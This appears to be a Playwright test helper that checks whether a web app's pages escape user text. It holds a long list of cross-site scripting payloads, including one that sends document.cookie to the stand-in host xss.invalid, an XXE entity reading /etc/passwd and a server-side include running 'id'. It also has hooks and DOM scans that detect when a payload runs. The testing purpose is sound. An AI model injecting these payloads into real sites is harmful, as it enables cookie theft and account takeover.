import type { BrowserContext, Page } from "@playwright/test";

/**
 * Texts that run a script, or load one from `xss.invalid`, wherever a page writes them without escaping. NUL is left
 * out: PostgreSQL cannot store it.
 */
export const xssPayloads: readonly string[] = [
  // Elements and event handlers.
  "<script>alert(1)</script>",
  "<script src=//xss.invalid/x.js></script>",
  '<script src="https://xss.invalid/x.js"></script>',
  "<script type=module src=//xss.invalid/m.js></script>",
  '<script>import("//xss.invalid/i.js")</script>',
  '<script>fetch("//xss.invalid/?"+document.cookie)</script>',
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=__xss()>",
  "<img src=//xss.invalid/p.png>",
  '<img srcset="//xss.invalid/s.png 1x">',
  "<img/src/onerror=alert(1)>",
  "<img src=x:x onerror=alert(1) //",
  "<img src onerror=alert`1`>",
  "<image src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg onload=prompt(1)//",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=//xss.invalid/h.js></script>",
  "<svg><script xlink:href=//xss.invalid/l.js></script>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set onbegin=alert(1) attributeName=x>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a>',
  '<svg><use href="//xss.invalid/u.svg#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__xss()</script>"></iframe></foreignObject></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.__xss()&lt;/script&gt;"></iframe>',
  "<iframe onload=alert(1)></iframe>",
  "<iframe src=//xss.invalid/f></iframe>",
  '<object data="javascript:alert(1)"></object>',
  "<object data=//xss.invalid/o></object>",
  '<embed src="javascript:alert(1)">',
  "<embed src=//xss.invalid/e>",
  "<video src=x onerror=alert(1)></video>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<video poster=//xss.invalid/v.png></video>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<button autofocus onfocus=alert(1)>x</button>",
  "<a href=# autofocus onfocus=alert(1)>x</a>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>',
  "<style>p{transition:color 1ms}p:hover{color:red}</style><p ontransitionend=alert(1)>x</p>",
  '<div onmouseover=alert(1) style="position:fixed;inset:0;z-index:99999">x</div>',
  "<div onpointerenter=alert(1)>x</div>",
  "<p contenteditable onblur=alert(1)>x</p>",
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  "<base href=//xss.invalid/>",
  "<link rel=stylesheet href=//xss.invalid/l.css>",
  "<link rel=preload as=script href=//xss.invalid/p.js>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=//xss.invalid/r">',
  "<dialog open onclose=alert(1)>x</dialog>",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",

  // Breaking out of an attribute, a text element or a comment.
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '"autofocus/onfocus="alert(1)"//',
  "x onfocus=alert(1) autofocus tabindex=1",
  "` onmouseover=alert(1) `",
  '" style="background:url(//xss.invalid/b)"',
  "--><script>alert(1)</script>",
  "--!><img src=x onerror=alert(1)>",
  "]]><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</noscript><script>alert(1)</script>",
  "</select><img src=x onerror=alert(1)>",
  "</option></select><svg onload=alert(1)>",
  "</td></tr></table><script>alert(1)</script>",
  "</pre></dd></dl><img src=x onerror=alert(1)>",
  "</iframe><script>alert(1)</script>",
  "</template><script>alert(1)</script>",
  "</xmp><script>alert(1)</script>",
  "</plaintext><script>alert(1)</script>",

  // Breaking out of a script, and of data in a script.
  "</script><script>alert(1)</script>",
  "</ScRiPt ><svg onload=alert(1)>",
  "</script/x><img src=x onerror=alert(1)>",
  "<!--<script>",
  "<!--<script></script><script>alert(1)</script>-->",
  '";alert(1);//',
  "';alert(1);//",
  "`;alert(1);//",
  '\\";alert(1);//',
  "\\';alert(1);//",
  '"+alert(1)+"',
  "'-alert(1)-'",
  "\u0024{alert(1)}",
  "`\u0024{alert(1)}`",
  "\n;alert(1)//",
  "\u2028alert(1)//",
  "\u2029alert(1)//",
  "*/alert(1)/*",
  '"}]);alert(1);//',
  '"]}</script><svg/onload=alert(1)>',
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3cimg src=x onerror=alert(1)\\x3e",
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"alert(1)"}}}',
  '{"type":"img","props":{"src":"x","onError":"alert(1)"}}',
  "$ACTION_ID_0",
  "$L1",
  "$@1",
  "$undefined",
  "$K1",
  '["$","script",null,{"children":"alert(1)"}]',
  '0:["$","img",null,{"src":"//xss.invalid/flight.png"}]',

  // Script URLs.
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\r\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)",
  "javascript%3Aalert(1)",
  "javascript://%0aalert(1)",
  "javascript://likeright.com/%0aalert(1)",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  "blob:https://likeright.com/alert(1)",
  "view-source:javascript:alert(1)",
  "//xss.invalid/%2f..",
  'https://xss.invalid/"onmouseover="alert(1)',
  "https://likeright.com@xss.invalid/",
  "http://xss.invalid\\@likeright.com/",

  // Entities, letter case, encodings and lookalike characters.
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3C;svg onload=alert(1)&#x3E;",
  "&LT;script&GT;alert(1)&LT;/script&GT;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script\n>alert(1)</script>",
  "<script\t>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "<script\u000b>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x on\u2400error=alert(1)>",
  "<img src=x onerror\f=alert(1)>",
  "<img src=x onerror=&#97;lert(1)>",
  '<img src=x onerror="\\u0061lert(1)">',
  '<img src=x onerror=self["al"+"ert"](1)>',
  "<img src=x onerror=(()=>{alert(1)})()>",
  '<img src=x onerror=eval(atob("YWxlcnQoMSk="))>',
  "<img src=x onerror=top.confirm(1)>",
  "<img src=x onerror=window.print()>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",
  "\u2039img src=x onerror=alert(1)\u203a",
  "<\u017fcript>alert(1)</\u017fcript>",
  "<\u0131mg src=x onerror=alert(1)>",
  "\ufeff<script>alert(1)</script>",
  "<s\u00adcript>alert(1)</s\u00adcript>",
  "<s\u200bcript>alert(1)</s\u200bcript>",
  "\u202e<script>alert(1)</script>",
  "\u2066<img src=x onerror=alert(1)>\u2069",
  "\u061c\u200f<svg onload=alert(1)>",
  "\ufffd<img src=x onerror=alert(1)>",
  "\ufffe\uffff<img src=x onerror=alert(1)>",
  "\u0001\b<img src=x onerror=alert(1)>",
  "\u001b]0;x\u0007<img src=x onerror=alert(1)>",

  // Mutation XSS: harmless until a parser, sanitizer or template has processed it.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  '<a id=x tabindex=1 onfocus=alert(1) href="x" style="x:expression(alert(1))">',
  '<div style="background-image:url(//xss.invalid/css.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "//xss.invalid/i.css";</style>',
  '<style>body{background:url("//xss.invalid/bg.png")}</style>',
  "</style><style>*{background:url(//xss.invalid/all.png)}",
  "[x](javascript:alert(1))",
  "[x](java&#x73;cript:alert(1))",
  "![x](//xss.invalid/md.png)",
  '![x"onerror="alert(1)](x)',
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "{alert(1)}",
  "{(() => alert(1))()}",
  'import x from "//xss.invalid/mdx.js"',
  "export const x = alert(1)",
  '{{constructor.constructor("alert(1)")()}}',
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  '#set($x="<script>alert(1)</script>")',
  "{% raw %}<script>alert(1)</script>",
  "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
  '<div ng-app ng-csp>{{$on.constructor("alert(1)")()}}</div>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>',
  '<!--#exec cmd="id"-->',
  "<img name=body><img id=cookie><form id=documentElement>",
  "<a id=defaultView><a id=defaultView name=alert href=x>",
];

/** Runs in every document before the page's own scripts: reports every call of a payload, and opens nothing. */
function hook(): void {
  const report = Reflect.get(window, "__xssRan");
  for (const name of ["alert", "confirm", "prompt", "print", "__xss"]) {
    Reflect.set(window, name, () => void report(name));
  }
}

/**
 * What ran or was requested from elsewhere, in all pages of a context. Must be attached before the context's first
 * page.
 */
export class XssWatch {
  /** As `<what ran> in <name or address of the document>`. */
  readonly ran: string[] = [];
  readonly fetched: string[] = [];

  static async of(context: BrowserContext, site: string): Promise<XssWatch> {
    const watch = new XssWatch();
    await context.exposeBinding("__xssRan", ({ frame }, name: string) => {
      watch.ran.push(`${name} in ${frame.name() || frame.url()}`);
    });
    await context.addInitScript(hook);
    context.on("dialog", (dialog) => {
      watch.ran.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    context.on("weberror", (event) => watch.ran.push(`an error: ${event.error().message}`));
    // A route that answered them would keep the browser from caching the site's own scripts.
    context.on("request", (request) => {
      const { protocol, origin } = new URL(request.url());
      if (protocol.startsWith("http") && origin !== new URL(site).origin) watch.fetched.push(request.url());
    });
    return watch;
  }
}

/** Elements and attributes that a payload could have made; none in a page that escapes its texts. Runs in a page. */
export function foreignParts(shown: Document): string[] {
  const made =
    "script:not([src^='/_next/']):not([nonce]),iframe:not([title]),object,embed,base,math,marquee,form[action^='j' i]";
  const found = [
    ...shown.querySelectorAll(
      `body :is(${made}), body :is(style,link:not([href^='/_next/']),meta[http-equiv],foreignObject,isindex,xss)`,
    ),
  ];
  for (const element of shown.querySelectorAll("body *")) {
    for (const { name, value } of element.attributes) {
      const isProgram = /^\s*(?:javascript|vbscript|data:text)/i.test(value.replace(/[\0-\x20]/g, ""));
      const isAddress = ["href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster"].includes(
        name,
      );
      const leaves = isAddress && value.includes("xss.invalid") && name !== "href";
      if (/^on/i.test(name) || (isAddress && isProgram) || leaves) found.push(element);
    }
  }
  // Next.js writes these into pages without a nonce.
  const isOwn = ({ localName, textContent }: Element) =>
    localName === "script" && /^\(?(?:self\.__next_f|globalThis\["TURBOPACK"\])/.test(textContent);
  return found.filter((element) => !isOwn(element)).map((element) => element.outerHTML.slice(0, 200));
}

export const foreignPartsOf = async (page: Page): Promise<string[]> =>
  (await page.evaluateHandle(() => document)).evaluate(foreignParts);
